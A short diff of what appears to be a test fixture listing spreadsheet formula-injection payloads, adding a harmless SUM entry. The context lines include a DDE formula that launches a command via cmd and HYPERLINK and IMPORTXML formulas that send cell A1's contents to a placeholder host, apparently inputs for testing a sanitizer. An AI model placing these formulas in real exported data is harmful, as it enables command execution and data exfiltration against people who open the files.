@@ -26,6 +26,7 @@ const BEFORE = [
 ];
 const BODIES = [
   '1+1',
+  'SUM(A1:A9)',
   "cmd|' /C calc'!A0",
   'HYPERLINK("http://elsewhere.example/?"&A1,"点这里")',
   'IMPORTXML(CONCAT("http://elsewhere.example/",A1),"//a")',
